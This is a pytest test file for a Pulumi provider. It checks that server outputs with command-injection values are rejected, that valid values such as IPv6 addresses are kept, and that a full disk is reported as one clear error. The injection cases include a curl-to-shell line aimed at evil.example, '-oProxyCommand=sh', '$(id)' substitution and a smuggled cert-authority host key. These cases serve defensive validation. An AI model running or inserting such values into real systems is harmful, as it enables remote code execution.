"""What is not as it has to be is told: a server's account that is a command, a disk that is full."""

import errno
from typing import Any

import pytest
from pulumi.runtime.proto import provider_pb2

from providers.driving.state import State
from providers.plugin.servicer import Servicer
from providers.plugin.wire import to_struct
from pse.core.errors import RemoteError
from pse.core.journal import FileJournal
from tests.providers.house import House, inputs, urn

GOOD = {"name": "web", "id": "1", "address": "10.0.0.5", "ssh_port": 22, "ssh_user": "admin", "host_key": ""}


def built(**changed: Any) -> State:
    outputs = {"servers": [{**GOOD, **changed}]}
    return State({"resources": [{"type": "pulumi:pulumi:Stack", "urn": "urn", "outputs": outputs}]})


@pytest.mark.parametrize(
    "changed",
    [
        {"ssh_user": "root; curl http://evil.example | sh"},
        {"ssh_user": "-oProxyCommand=sh"},
        {"ssh_user": "root\n"},
        {"address": "-oProxyCommand=sh"},
        {"address": "10.0.0.5 $(id)"},
        {"address": "10.0.0.5\n"},
        {"ssh_port": 70000},
        {"host_key": "ssh-ed25519 AAAA\n@cert-authority * ssh-ed25519 BBBB"},
    ],
)
def test_word_that_would_be_a_command_is_no_servers(changed: dict[str, Any]) -> None:
    with pytest.raises(RemoteError, match="outputs cannot be read"):
        built(**changed).deployment(stack="portal", plan="", unit_hash="", place="")


@pytest.mark.parametrize(
    "changed", [{}, {"address": "2001:db8::5", "ssh_user": "cloud-user"}, {"host_key": "ssh-ed25519 AAAA+/= web 1"}]
)
def test_word_of_a_server_is_kept(changed: dict[str, Any]) -> None:
    (server,) = built(**changed).deployment(stack="portal", plan="", unit_hash="", place="").servers
    assert {name: getattr(server, name) for name in changed} == changed


def test_full_disk_is_told_as_one_and_not_as_a_defect(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
    said: list[str] = []

    class Context:
        def peer(self) -> str:
            return "test"

        def abort(self, code: Any, text: str) -> None:
            said.append(f"{code.name} {text}")
            raise LookupError

    def full(_journal: FileJournal, _key: str) -> None:
        raise OSError(errno.ENOSPC, "No space left on device", "/srv/intents.lock")

    monkeypatch.setattr(FileJournal, "find", full)
    servicer = Servicer()
    context: Any = Context()
    settings = to_struct({"workspace": str(house.root)})
    servicer.Configure(provider_pb2.ConfigureRequest(args=settings), context)
    properties = to_struct(inputs("a", cidr="10.0.0.0/16"))
    with pytest.raises(LookupError):
        servicer.Create(provider_pb2.CreateRequest(urn=urn("Network", "a"), properties=properties), context)
    assert said == ["INVALID_ARGUMENT /srv/intents.lock: the disk is full (Free some space or choose another folder.)"]
